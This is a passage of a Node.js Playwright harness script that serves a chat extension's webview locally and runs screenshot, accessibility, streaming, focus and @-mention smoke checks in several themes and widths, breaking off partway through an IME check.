// Dev harness runner for the chat webview (not shipped, not the official UI tests).
//
//   npm run build && node test/webview-harness/run.mjs [--only=dark-narrow] [--serve]
//
// Bundles the fake extension (harness.mts), serves it with dist/webview.{js,css} on 127.0.0.1,
// opens it in Chromium in light, dark and high-contrast themes, narrow (side panel) and wide
// (editor tab), saves screenshots to test-results/webview/, and runs smoke checks: no console
// errors or CSP violations, streamed rendering equal to a whole render, linear rendering work,
// auto-scroll, IME-safe Enter, accessible names, and the context of #12 (@-mentions, chips, the
// budget's breakdown, snippets, file links; `--context` runs only those, and a send's). `--serve` only serves,
// for a look by hand.
/* global window, document, requestAnimationFrame, performance, KeyboardEvent, CompositionEvent, InputEvent, getComputedStyle */
import * as esbuild from 'esbuild';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '../..');
const out = path.join(root, 'test-results', 'webview');
const bundleDir = path.join(root, 'test-results', 'webview-harness');
const args = process.argv.slice(2);
const only = args.find((a) => a.startsWith('--only='))?.slice(7);

const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.json': 'application/json', '.map': 'application/json' };

function serve() {
  const routes = [
    ['/dist/', path.join(root, 'dist')],
    ['/harness/', bundleDir],
    ['/l10n/', path.join(root, 'l10n')],
  ];
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://localhost');
    if (url.pathname === '/favicon.ico') {
      res.writeHead(204).end();
      return;
    }
    let file = url.pathname === '/' ? path.join(here, 'index.html') : undefined;
    for (const [prefix, dir] of routes) {
      if (url.pathname.startsWith(prefix)) file = path.join(dir, decodeURIComponent(url.pathname.slice(prefix.length)));
    }
    if (!file || !file.startsWith(root) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      res.writeHead(404).end('not found');
      return;
    }
    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' });
    fs.createReadStream(file).pipe(res);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

const failures = [];
let passed = 0;
function check(ok, what) {
  console.log(`${ok ? '  ✔' : '  ✘'} ${what}`);
  if (!ok) failures.push(what);
  else passed++;
}

async function main() {
  for (const f of ['dist/webview.js', 'dist/webview.css']) {
    if (!fs.existsSync(path.join(root, f))) throw new Error(`${f} is missing: run \`npm run build\` first`);
  }
  fs.mkdirSync(out, { recursive: true });
  await esbuild.build({
    entryPoints: [path.join(here, 'harness.mts')],
    outfile: path.join(bundleDir, 'harness.js'),
    bundle: true,
    format: 'iife',
    platform: 'browser',
    target: ['chrome114'],
    logLevel: 'warning',
  });
  const server = await serve();
  const base = `http://127.0.0.1:${server.address().port}/`;
  console.log(`harness at ${base}`);
  if (args.includes('--serve')) return;

  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'hunyuan-harness-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
    viewport: { width: 400, height: 900 },
    deviceScaleFactor: 1,
  });
  try {
    await run(context, base);
  } finally {
    await context.close();
    server.close();
    fs.rmSync(profile, { recursive: true, force: true });
  }
  if (failures.length) {
    console.error(`\n${failures.length} check(s) failed`);
    process.exitCode = 1;
  } else {
    console.log('\nall checks passed');
  }
  // the summary test/run-all.mjs reads; no check at all counts as a failure
  if (!passed && !failures.length) {
    failures.push('no check ran');
    process.exitCode = 1;
  }
  console.log(`${passed} passed, ${failures.length} failed`);
}

const WIDTHS = { narrow: { width: 380, height: 860 }, wide: { width: 1100, height: 860 } };

async function open(context, base, { theme = 'dark', width = 'narrow', scenario = 'full', lang = 'en' } = {}) {
  const page = await context.newPage();
  const errors = [];
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.setViewportSize(WIDTHS[width]);
  await page.goto(`${base}?theme=${theme}&scenario=${scenario}&lang=${lang}`);
  await page.waitForSelector('[data-testid="input-bar"]');
  await page.waitForTimeout(150);
  return { page, errors };
}

async function shot(page, name) {
  await page.waitForTimeout(80);
  await page.screenshot({ path: path.join(out, `${name}.png`) });
}

async function clean(page, errors, label) {
  const csp = await page.evaluate(() => window.harness.cspViolations);
  check(errors.length === 0 && csp.length === 0, `${label}: no console errors or CSP violations ${[...errors, ...csp].join(' | ')}`);
}

/** `--perf`: streams long answers of several shapes and reports time and rendering work. */
async function perf(context, base) {
  const { page } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const shapes = {
    mixed: (n) => Array.from({ length: n }, (_, i) => `## Step ${i}\n\nSome text with **bold** and \`code\` 中文。\n\n\`\`\`ts\nconst a${i} = [${i}, ${i + 1}];\nconsole.log(a${i}.map((x) => x * 2));\n\`\`\`\n\n| k | v |\n|---|---|\n| ${i} | ${i} |\n`).join('\n'),
    oneList: (n) => Array.from({ length: n }, (_, i) => `${i + 1}. **Item ${i}**\n\n   Explanation of the item, with \`code\` and more words to make it longer.\n\n   \`\`\`py\n   print(${i})\n   \`\`\`\n`).join('\n'),
    oneFence: (n) => `\`\`\`ts\n${Array.from({ length: n * 6 }, (_, i) => `const line${i} = compute(${i}); // comment ${i}`).join('\n')}\n\`\`\`\n`,
  };
  for (const [name, make] of Object.entries(shapes)) {
    for (const n of [50, 200]) {
      const r = await page.evaluate(async ([src, count]) => {
        const makeAnswer = new Function('n', `return (${src})(n)`);
        const answer = makeAnswer(count);
        const h = window.harness;
        const stats = window.__hunyuanChatStats;
        const before = JSON.parse(JSON.stringify(stats));
        const t0 = performance.now();
        let worst = 0;
        h.startStream({ thinking: '', answer });
        while (h.snapshot().streamingId) {
          const f0 = performance.now();
          h.step(40);
          await new Promise((r) => requestAnimationFrame(r));
          worst = Math.max(worst, performance.now() - f0);
        }
        return {
          chars: answer.length,
          ms: Math.round(performance.now() - t0),
          worstFrameMs: Math.round(worst),
          parsedPerChar: ((stats.markdown.parsedChars - before.markdown.parsedChars) / answer.length).toFixed(2),
          highlightedPerChar: ((stats.highlight.chars - before.highlight.chars) / answer.length).toFixed(2),
          tailRenders: stats.stream.tailRenders - before.stream.tailRenders,
        };
      }, [make.toString(), n]);
      console.log(`  ${name} ×${n}: ${JSON.stringify(r)}`);
    }
  }
  await page.close();
}

async function run(context, base) {
  if (args.includes('--perf')) {
    await perf(context, base);
    return;
  }
  if (args.includes('--context')) {
    await contextBehaviour(context, base);
    await sendBehaviour(context, base);
    return;
  }
  // Screenshots in each theme and width.
  for (const theme of ['dark', 'light', 'hc']) {
    for (const width of ['narrow', 'wide']) {
      const name = `${theme}-${width}`;
      if (only && only !== name) continue;
      console.log(name);
      const { page, errors } = await open(context, base, { theme, width });
      await shot(page, `${name}-bottom`);
      await page.evaluate(() => {
        document.querySelector('[data-testid="message-list"]').scrollTop = 0;
      });
      await shot(page, `${name}-top`);
      await page.click('[data-testid="conversation-menu-button"]');
      await shot(page, `${name}-menu`);
      await page.keyboard.press('Escape');
      if (await page.isVisible('[data-testid="jump-to-latest"]')) await page.click('[data-testid="jump-to-latest"]');
      // Streaming: thinking, then the middle of the answer, then done.
      await page.evaluate(() => {
        window.harness.startStream();
        for (let i = 0; i < 12; i++) window.harness.step(8);
      });
      await page.waitForTimeout(1200);
      await shot(page, `${name}-stream-thinking`);
      await page.evaluate(() => {
        for (let i = 0; i < 60; i++) window.harness.step(8);
      });
      await page.waitForTimeout(120);
      await shot(page, `${name}-stream-answer`);
      await page.evaluate(() => window.harness.streamAll(50));
      await page.waitForTimeout(150);
      await shot(page, `${name}-stream-done`);
      await clean(page, errors, name);
      await page.close();
    }
  }
  if (only) return;

  for (const [scenario, theme, width, lang] of [['empty', 'light', 'narrow', 'en'], ['nokey', 'dark', 'narrow', 'en'], ['full', 'dark', 'wide', 'zh'], ['full', 'light', 'narrow', 'zh'], ['overflow', 'dark', 'narrow', 'en'], ['toolong', 'light', 'narrow', 'zh']]) {
    const name = `${scenario}-${theme}-${width}-${lang}`;
    console.log(name);
    const { page, errors } = await open(context, base, { theme, width, scenario, lang });
    if (scenario === 'overflow' || scenario === 'toolong') {
      // The budget's warnings stay with the breakdown line.
      const testId = scenario === 'overflow' ? 'drop-oldest' : 'too-long';
      const shown = await page.waitForSelector(`[data-testid="${testId}"]`, { timeout: 3000 }).then(() => true, () => false);
      check(shown && (await page.isVisible('[data-testid="budget-cost"]')), `${name}: the budget line shows its cost and the ${testId} warning`);
    }
    await shot(page, name);
    await clean(page, errors, name);
    await page.close();
  }

  console.log('behaviour');
  await behaviour(context, base);
}

async function behaviour(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'narrow' });
  const posted = (method) => page.evaluate((m) => window.harness.posted.filter((e) => e.method === m).length, method);

  // Accessible names and tab order.
  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button')].filter((b) => !(b.getAttribute('aria-label') || b.textContent.trim())).length);
  check(unnamed === 0, 'every button has an accessible name');
  const log = await page.evaluate(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    return l.getAttribute('role') === 'log' && l.getAttribute('aria-live') === 'polite';
  });
  check(log, 'the message list is a polite ARIA log');

  // IME: Enter while composing must not send; Enter sends; Shift+Enter does not.
  await page.fill('[data-testid="chat-input"]', '你好');
  await page.evaluate(() => {
    const ta = document.querySelector('[data-testid="chat-input"]');
    ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }));
    ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }));
  });
  check((await posted('chat/send')) === 0, 'Enter during an IME composition does not send');
  await page.focus('[data-testid="chat-input"]');
  await page.keyboard.press('Shift+Enter');
  check((await posted('chat/send')) === 0, 'Shift+Enter does not send');
  await page.keyboard.press('Enter');
  check((await posted('chat/send')) === 1, 'Enter sends');
  await page.waitForTimeout(200);
  check(await page.evaluate(() => document.querySelector('[data-testid="send-button"]').dataset.mode === 'stop'), 'Send becomes Stop while streaming');
  await page.evaluate(() => window.harness.stopTimer());

  // Auto-scroll: scrolling up stops following and shows Jump to Latest; the button resumes.
  await page.evaluate(async () => {
    for (let i = 0; i < 30; i++) window.harness.step(12);
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  });
  const atBottom = () => page.evaluate(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    return l.scrollHeight - l.scrollTop - l.clientHeight <= 4;
  });
  check(await atBottom(), 'follows the stream at the bottom');
  await page.mouse.move(190, 300);
  await page.mouse.wheel(0, -400);
  await page.waitForTimeout(150);
  await page.evaluate(async () => {
    for (let i = 0; i < 20; i++) window.harness.step(12);
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  });
  check(!(await atBottom()), 'scrolling up stops following');
  check(await page.isVisible('[data-testid="jump-to-latest"]'), 'Jump to Latest appears');
  await page.click('[data-testid="jump-to-latest"]');
  await page.waitForTimeout(100);
  check(await atBottom(), 'Jump to Latest goes to the bottom');
  check(!(await page.isVisible('[data-testid="jump-to-latest"]')), 'and hides again');

  // Keyboard only: Shift+Tab from the input reaches the answer's controls, with a visible ring.
  await page.focus('[data-testid="chat-input"]');
  for (let i = 0; i < 3; i++) await page.keyboard.press('Shift+Tab');
  const focused = await page.evaluate(() => {
    const el = document.activeElement;
    return { label: el?.getAttribute('aria-label') || el?.textContent, outline: getComputedStyle(el).outlineStyle };
  });
  check(!!focused.label && focused.outline !== 'none', `keyboard focus is visible (${JSON.stringify(focused)})`);
  await shot(page, 'keyboard-focus-dark-narrow');

  // Escape stops.
  await page.focus('[data-testid="chat-input"]');
  await page.keyboard.press('Escape');
  check((await posted('chat/stop')) === 1, 'Escape stops the answer');
  await page.waitForTimeout(100);
  check(await page.isVisible('[data-testid="stopped-badge"] >> nth=-1'), 'a stopped answer shows "Stopped"');

  // Code block toolbar → RunCodeAction with the raw code.
  await page.click('[data-turn-id="a1"] [data-testid="code-copy"]');
  const action = await page.evaluate(() => window.harness.posted.filter((e) => e.method === 'chat/codeAction').pop()?.params);
  check(action?.action === 'copy' && action.turnId === 'a1' && action.blockIndex === 0 && /^\d+:[0-9a-f]+$/.test(action.shown) && !('code' in action),
    'Copy sends RunCodeAction with the block and the fingerprint of its code (the extension has the code)');
  await page.click('[data-turn-id="a1"] [data-block-index="1"] [data-testid="code-insert"]');
  const action2 = await page.evaluate(() => window.harness.posted.filter((e) => e.method === 'chat/codeAction').pop()?.params);
  check(action2?.blockIndex === 1 && action2.shown !== action.shown, 'the nested code block is block 1');

  // Links are intercepted.
  await page.click('[data-turn-id="a1"] a[href^="https://developer.mozilla.org"]');
  check((await posted('chat/openLink')) === 1 && page.url().startsWith('http://127.0.0.1'), 'links go to OpenLink and never navigate');

  // Edit & resend, Escape cancels.
  await page.hover('[data-turn-id="u2"]');
  await page.click('[data-turn-id="u2"] [data-testid="edit-button"]');
  const editLimit = await page.getAttribute('[data-testid="edit-textarea"]', 'maxlength');
  const inputLimit = await page.getAttribute('[data-testid="chat-input"]', 'maxlength');
  check(editLimit !== null && editLimit === inputLimit, `the edit box takes no more than the input does (the extension refuses a longer message): ${editLimit} vs ${inputLimit}`);
  await page.keyboard.press('Escape');
  check(!(await page.isVisible('[data-testid="edit-textarea"]')), 'Escape cancels editing');

  await page.evaluate(() => { window.harness.stopTimer(); window.harness.finish(); });

  await clean(page, errors, 'behaviour');
  await page.close();

  await contextBehaviour(context, base);
  await sendBehaviour(context, base);
  await longFence(context, base);
  await untrustedOutput(context, base);
  await streamingEqualsWhole(context, base);
  await linearWork(context, base);
}

/**
 * The input and the list around a send (run with `--context` too, so `npm test` runs them): a
 * message the extension gave back, and a send from higher up in the conversation.
 */
async function sendBehaviour(context, base) {
  console.log('send');
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'narrow' });
  const atBottom = () => page.evaluate(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    return l.scrollHeight - l.scrollTop - l.clientHeight <= 4;
  });
  // A message the extension could not take comes back into the input; what was typed since stays after it.
  const chatInput = '[data-testid="chat-input"]';
  await page.fill(chatInput, '');
  const inputIs = (value) => page.waitForFunction((v) => document.querySelector('[data-testid="chat-input"]').value === v, value, { timeout: 3000 }).then(() => true, () => false);
  await page.evaluate(() => window.harness.notify('chat/returnMessage', { text: 'sent too early' }));
  check(await inputIs('sent too early'), 'a returned message is back in the empty input');
  await page.fill(chatInput, 'typed since');
  await page.evaluate(() => window.harness.notify('chat/returnMessage', { text: 'sent too early' }));
  check(await inputIs('sent too early\ntyped since'), 'a returned message goes before what was typed since');
  check(await page.isEnabled('[data-testid="send-button"]'), 'Send is enabled for it');
  await page.fill(chatInput, '');

  // Sending from higher up: the list goes back to the end, where the question and its answer come.
  await page.mouse.move(190, 300);
  await page.mouse.wheel(0, -400);
  await page.waitForTimeout(150);
  check(!(await atBottom()), 'scrolled up');
  await page.fill('[data-testid="chat-input"]', 'a question from higher up');
  await page.keyboard.press('Enter');
  const backDown = await page.waitForFunction(() => {
    const l = document.querySelector('[data-testid="message-list"]');
    const q = [...l.querySelectorAll('[data-testid="user-turn"], .user-turn, [data-turn-id]')].find((e) => e.textContent.includes('a question from higher up'));
    if (!q) return false;
    const [a, b] = [l.getBoundingClientRect(), q.getBoundingClientRect()];
    return b.bottom > a.top && b.top < a.bottom && !document.querySelector('[data-testid="jump-to-latest"]:not([hidden])');
  }, undefined, { timeout: 3000 }).then(() => true, () => false);
  check(backDown, 'sending goes back to the end: the question in view, following again');
  check(!(await page.isVisible('[data-testid="jump-to-latest"]')), 'and Jump to Latest hides');
  await page.evaluate(() => { window.harness.stopTimer(); window.harness.finish(); });

  // Copy shows ✓ once the extension says the code is on the clipboard, not when it refused.
  const copyButton = page.locator('[data-testid="code-copy"]').first();
  const copyLabel = await copyButton.getAttribute('aria-label');
  const copied = async () => page.waitForFunction((b) => b.classList.contains('done'), await copyButton.elementHandle(), { timeout: 1000 }).then(() => true, () => false);
  await page.evaluate(() => window.harness.setCodeActionsDone(false));
  await copyButton.scrollIntoViewIfNeeded();
  await copyButton.click();
  check(!(await copied()), 'Copy refused by the extension: no ✓');
  await page.evaluate(() => window.harness.setCodeActionsDone(true));
  await copyButton.click();
  const done = await copied();
  const doneLabel = await copyButton.getAttribute('aria-label');
  check(done && doneLabel !== copyLabel, `Copy done: ✓, and its name says so (${copyLabel} → ${doneLabel})`);

  // A redraw that removes the control with the focus hands the focus on, never drops it to the page.
  const focusIs = (testId) => page.waitForFunction((id) => document.activeElement?.getAttribute('data-testid') === id, testId, { timeout: 2000 }).then(() => true, () => false);
  const activeTestId = () => page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? document.activeElement?.tagName);
  await page.focus('[data-testid="regenerate-button"]');
  await page.keyboard.press('Enter');
  check(await focusIs('chat-input'), `Regenerate by keyboard: the answer is replaced, the focus goes to the input (${await activeTestId()})`);
  await page.evaluate(() => { window.harness.stopTimer(); window.harness.finish('done'); });
  await page.locator('[data-testid="edit-button"]').last().focus();
  await page.keyboard.press('Enter');
  await page.waitForSelector('[data-testid="edit-textarea"]');
  await page.keyboard.type(' (edited)');
  await page.keyboard.press('Enter');
  check(await focusIs('chat-input'), `Save & Resend by keyboard: the focus goes to the input (${await activeTestId()})`);
  await page.evaluate(() => { window.harness.stopTimer(); window.harness.finish('done'); });
  // Copy of a code block still being written, focused when the block is done and gets its full toolbar
  const streamingId = await page.evaluate(() => window.harness.startStream({ thinking: '', answer: 'Like this:\n\n```js\nconst a = 1;\nconst b = 2;\n' }).turn.id);
  await page.evaluate(() => window.harness.step(1000));
  const streamingCopy = `[data-turn-id="${streamingId}"] [data-block-index="0"] [data-testid="code-copy"]`;
  await page.waitForSelector(streamingCopy);
  await page.focus(streamingCopy);
  await page.evaluate((sel) => { document.querySelector(sel).dataset.before = '1'; window.harness.finish('done'); }, streamingCopy);
  const refocused = await page.waitForFunction((id) => {
    const a = document.activeElement;
    return a?.getAttribute('data-testid') === 'code-copy' && a.closest('[data-turn-id]')?.getAttribute('data-turn-id') === id
      && a.closest('[data-block-index]')?.getAttribute('data-block-index') === '0' && !document.querySelector('[data-before]')?.isConnected;
  }, streamingId, { timeout: 2000 }).then(() => true, () => false);
  check(refocused, `a code block done while its Copy had the focus: the focus is on the Copy of its new toolbar (${await activeTestId()})`);
  // Copy of a block that is drawn again before the reply comes: the ✓ shows on the block's new Copy
  const lateId = await page.evaluate(() => window.harness.startStream({ thinking: '', answer: 'Late:\n\n```js\nconst d = 4;\n' }).turn.id);
  await page.evaluate(() => window.harness.step(1000));
  const lateCopy = `[data-turn-id="${lateId}"] [data-block-index="0"] [data-testid="code-copy"]`;
  await page.waitForSelector(lateCopy);
  await page.evaluate(() => window.harness.setCodeActionsDone(true, 400));
  await page.click(lateCopy);
  await page.evaluate((sel) => { document.querySelector(sel).dataset.before = 'late'; window.harness.finish('done'); }, lateCopy);
  const lateFlash = await page.waitForFunction((sel) => {
    const b = document.querySelector(sel);
    return b && b.dataset.before !== 'late' && b.classList.contains('done');
  }, lateCopy, { timeout: 3000 }).then(() => true, () => false);
  await page.evaluate(() => window.harness.setCodeActionsDone(true));
  check(lateFlash, 'Copy of a block drawn again before the reply: the ✓ shows on its new Copy');
  // …but not when the user had moved the focus away themselves (a click on text)
  const otherId = await page.evaluate(() => window.harness.startStream({ thinking: '', answer: 'Again:\n\n```js\nconst c = 3;\n' }).turn.id);
  await page.evaluate(() => window.harness.step(1000));
  const otherCopy = `[data-turn-id="${otherId}"] [data-block-index="0"] [data-testid="code-copy"]`;
  await page.waitForSelector(otherCopy);
  await page.focus(otherCopy);
  await page.evaluate((sel) => {
    document.querySelector(sel).blur(); // what a click on plain text does: the focus goes to the page
    window.harness.finish('done');
  }, otherCopy);
  await page.waitForTimeout(300);
  check(await page.evaluate(() => document.activeElement === document.body), `focus moved away by the user stays where they put it (${await activeTestId()})`);

  // Opening a closed section near the end (an answer's thinking) keeps it where it is, in view.
  const opened = await page.evaluate(async () => {
    const frames = (n) => new Promise((r) => { const f = () => (--n <= 0 ? r() : requestAnimationFrame(f)); requestAnimationFrame(f); });
    // a last answer that is short, after a long thinking: its header is on screen at the end
    const h = window.harness;
    const snap = h.snapshot();
    const turns = snap.conversation.turns;
    const user = turns.find((t) => t.role === 'user');
    const thought = turns.find((t) => t.role === 'assistant' && t.thinking);
    if (!user || !thought) return { found: false };
    turns.push({ ...user, id: 'u-short', text: 'And briefly?' }, { ...thought, id: 'a-short', answer: 'Short answer.', thinking: Array.from({ length: 40 }, (_, i) => `step ${i}`).join('\n') });
    h.notify('chat/snapshot', snap);
    await frames(3);
    const l = document.querySelector('[data-testid="message-list"]');
    const d = document.querySelector('[data-turn-id="a-short"] details.thinking');
    if (!d) return { found: false };
    const s = d.querySelector('summary');
    l.scrollTop = l.scrollHeight; // the end in view, following
    await frames(2);
    if (d.open) s.click(); // closing keeps following: the end stays in view
    await frames(3);
    const top = () => s.getBoundingClientRect().top - l.getBoundingClientRect().top;
    const before = top();
    s.click();
    await frames(3);
    return { found: true, open: d.open, before, after: top(), height: l.clientHeight };
  });
  check(opened.found && opened.open && opened.before >= 0 && Math.abs(opened.after - opened.before) <= 2,
    `opening a section near the end keeps its header in place ${JSON.stringify(opened)}`);

  await clean(page, errors, 'send');
  await page.close();
}

/**
 * Context (issue #12), the webview's side: the @-mention list (opens, filters, keyboard and mouse,
 * Escape, stale replies dropped, IME-safe, ARIA), chips with tokens and the trimmed mark, the Rules
 * chip, the budget line and its breakdown, "Used N snippets" with its refs, file links.
 */
async function contextBehaviour(context, base) {
  console.log('context');
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'narrow' });
  const input = '[data-testid="chat-input"]';
  const posted = (method) => page.evaluate((m) => window.harness.posted.filter((e) => e.method === m).map((e) => e.params), method);
  const popupShown = () => page.evaluate(() => {
    const p = document.querySelector('[data-testid="mention-popup"]');
    return !!p && !p.hidden && p.getBoundingClientRect().height > 0;
  });
  const items = () => page.evaluate(() => [...document.querySelectorAll('[data-testid="mention-item"]')].map((li) => ({
    id: li.id, label: li.querySelector('.mention-label')?.textContent, detail: li.querySelector('.mention-detail')?.textContent ?? '',
    selected: li.getAttribute('aria-selected'), role: li.getAttribute('role'), icon: !!li.querySelector('svg.mention-icon'),
  })));
  const aria = () => page.evaluate((sel) => {
    const ta = document.querySelector(sel);
    return { role: ta.getAttribute('role'), expanded: ta.getAttribute('aria-expanded'), active: ta.getAttribute('aria-activedescendant'), controls: ta.getAttribute('aria-controls') };
  }, input);
  const waitList = async (pred, what) => {
    try {
      await page.waitForFunction(pred, undefined, { timeout: 3000 });
      return true;
    } catch {
      console.log(`    (timed out waiting: ${what})`);
      return false;
    }
  };
  const until = (pred) => page.waitForFunction(pred, undefined, { timeout: 3000 }).then(() => true, () => false);

  // Typing @ opens the list, with the input as a combobox that owns it.
  await page.fill(input, '');
  await page.focus(input);
  await page.keyboard.type('Explain @');
  const opened = await waitList(() => document.querySelectorAll('[data-testid="mention-item"]').length > 0, 'list on @');
  const all = await items();
  const a1 = await aria();
  check(opened && (await popupShown()) && all.length === 11, `typing @ opens the list of everything offered (${all.length} entries)`);
  check(a1.role === 'combobox' && a1.expanded === 'true' && a1.active === all[0]?.id && all[0]?.selected === 'true' && all.every((i) => i.role === 'option' && i.icon),
    `ARIA: combobox expanded, aria-activedescendant on the first option, options with icons ${JSON.stringify(a1)}`);
  check(await page.evaluate((id) => document.getElementById(id)?.getAttribute('role') === 'listbox', a1.controls), 'aria-controls names the listbox');
  check(await page.evaluate(() => !!document.querySelector('[data-testid="mention-item"] .mention-detail')), 'entries show their detail (dimmed)');
  const queries0 = (await posted('chat/mentions')).length;
  await shot(page, 'context-mentions-dark-narrow');

  // Typing filters it (one request for a burst of keystrokes, the last query wins).
  await page.keyboard.type('sor');
  await until(() => document.querySelectorAll('[data-testid="mention-item"]').length === 4);
  const filtered = await items();
  const queries = (await posted('chat/mentions')).slice(queries0);
  check(filtered.length === 4 && filtered.every((i) => /sor/i.test(`${i.label} ${i.detail}`)), `typing filters the list (${filtered.map((i) => i.label).join(', ')})`);
  check(queries.length >= 1 && queries.length < 3 && queries[queries.length - 1].query === 'sor' && queries[queries.length - 1].trigger === '@',
    `the query is debounced: ${queries.length} request(s) for 3 keystrokes, the last for "sor" ${JSON.stringify(queries)}`);

  // ↓ moves, Enter picks: PickMention with the entry's id, the @query removed, nothing sent.
  await page.keyboard.press('ArrowDown');
  const moved = await items();
  const a2 = await aria();
  check(moved[1]?.selected === 'true' && moved[0]?.selected === 'false' && a2.active === moved[1]?.id, 'ArrowDown moves the active option (aria-activedescendant follows)');
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('ArrowUp');
  check((await aria()).active === moved[moved.length - 1]?.id, 'ArrowUp from the first option wraps to the last');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  const chipsBefore = await page.locator('[data-testid="pending-chip"]').count();
  const sends0 = (await posted('chat/send')).length;
  await page.keyboard.press('Enter');
  const picks = await posted('chat/pickMention');
  check(picks.length === 1 && picks[0].id === 'm-file-partition' && moved[1]?.label === 'partition.ts', `Enter picks the active entry: PickMention ${JSON.stringify(picks)}`);
  check((await page.inputValue(input)) === 'Explain ', `the typed @query is removed from the input (${JSON.stringify(await page.inputValue(input))})`);
  check((await posted('chat/send')).length === sends0, 'Enter on the list does not send the message');
  check(!(await popupShown()) && (await aria()).expanded === 'false' && (await aria()).active === null, 'the list closes after a pick');
  check(await until(() => document.querySelectorAll('[data-testid="pending-chip"]').length > 0 &&
    [...document.querySelectorAll('[data-testid="pending-chip"]')].some((c) => c.textContent.includes('partition.ts'))), 'the extension\'s new chip appears');
  check((await page.locator('[data-testid="pending-chip"]').count()) === chipsBefore + 1, 'one chip was added');
  const caret = await page.evaluate((sel) => document.querySelector(sel).selectionStart, input);
  check(caret === 'Explain '.length, `the caret is where the mention was (${caret})`);
  // the removal is an edit of the textarea: Ctrl+Z brings the typed mention back
  await page.keyboard.press('Control+z');
  check(await until(() => document.querySelector('[data-testid="chat-input"]').value === 'Explain @sor'),
    `Ctrl+Z after a pick restores the typed mention (${JSON.stringify(await page.inputValue(input))})`);
  await page.keyboard.press('Escape');

  // Tab picks too; the caret in the middle of a mention removes the whole token.
  await page.fill(input, 'see @quickSort now');
  await page.evaluate((sel) => {
    const ta = document.querySelector(sel);
    ta.focus();
    ta.setSelectionRange(9, 9); // "@quic|kSort"
    ta.click();
  }, input);
  await until(() => document.querySelectorAll('[data-testid="mention-item"]').length === 1);
  const mid = await posted('chat/mentions');
  check(mid[mid.length - 1]?.query === 'quic', `the query is what precedes the caret (${JSON.stringify(mid[mid.length - 1])})`);
  await page.keyboard.press('Tab');
  const picks2 = await posted('chat/pickMention');
  check(picks2.length === 2 && picks2[1].id === 'm-symbol-sort' && (await page.inputValue(input)) === 'see  now', `Tab picks; the whole @token goes (${JSON.stringify(await page.inputValue(input))})`);

  // Escape closes the list (and stops nothing); it stays closed for that mention.
  await page.fill(input, '');
  await page.keyboard.type('#prob');
  await waitList(() => document.querySelectorAll('[data-testid="mention-item"]').length === 1, '# list');
  check(await popupShown(), '# opens the list too');
  const stops0 = (await posted('chat/stop')).length;
  await page.keyboard.press('Escape');
  check(!(await popupShown()) && (await posted('chat/stop')).length === stops0, 'Escape closes the list and stops nothing');
  await page.keyboard.type('l');
  await page.waitForTimeout(200);
  check(!(await popupShown()), 'after Escape the list stays closed while typing on in the same mention');
  await page.keyboard.type(' @');
  check(await waitList(() => !document.querySelector('[data-testid="mention-popup"]').hidden, 'a new mention opens'), 'a new mention opens it again');
  await page.keyboard.press('Escape');

  // No matches; an e-mail address never opens it; Chinese text before @ does.
  await page.fill(input, '');
  await page.keyboard.type('@zzzz');
  await waitList(() => !!document.querySelector('[data-testid="mention-empty"]'), 'No matches');
  check((await popupShown()) && (await page.textContent('[data-testid="mention-empty"]')) === 'No matches' && (await items()).length === 0, 'an empty list says "No matches"');
  const sends1 = (await posted('chat/send')).length;
  const picks3 = (await posted('chat/pickMention')).length;
  await page.fill(input, '');
  await page.keyboard.type('mail a@b.com');
  await page.waitForTimeout(250);
  check(!(await popupShown()), 'an e-mail address (a@b.com) does not open the list');
  await page.fill(input, '');
  await page.keyboard.type('请解释@说明');
  check(await waitList(() => [...document.querySelectorAll('[data-testid="mention-item"] .mention-label')].some((l) => l.textContent === '说明.md'), 'Chinese query'),
    'right after Chinese text, @ opens the list and a Chinese query filters it');
  await page.keyboard.press('Escape');

  // Stale replies are dropped: a slow reply to "@a" arriving after the reply to "@ab" is ignored.
  await page.evaluate(() => window.harness.delayMentions('a', 400));
  await page.fill(input, '');
  await page.keyboard.type('@a');
  await page.waitForTimeout(120);
  await page.keyboard.type('b');
  await page.waitForTimeout(700);
  const stale = await items();
  check(stale.length === 0 && (await page.isVisible('[data-testid="mention-empty"]')), `a stale reply does not replace the newer one (${stale.map((i) => i.label).join(', ')})`);
  await page.keyboard.press('Escape');

  // IME: during a composition no key is taken and Enter neither picks nor sends.
  await page.fill(input, '');
  await page.keyboard.type('@');
  await waitList(() => document.querySelectorAll('[data-testid="mention-item"]').length > 0, 'list before IME');
  const imeBefore = { picks: (await posted('chat/pickMention')).length, sends: (await posted('chat/send')).length, queries: (await posted('chat/mentions')).length, active: (await aria()).active };
  await page.evaluate((sel) => {
    const ta = document.querySelector(sel);
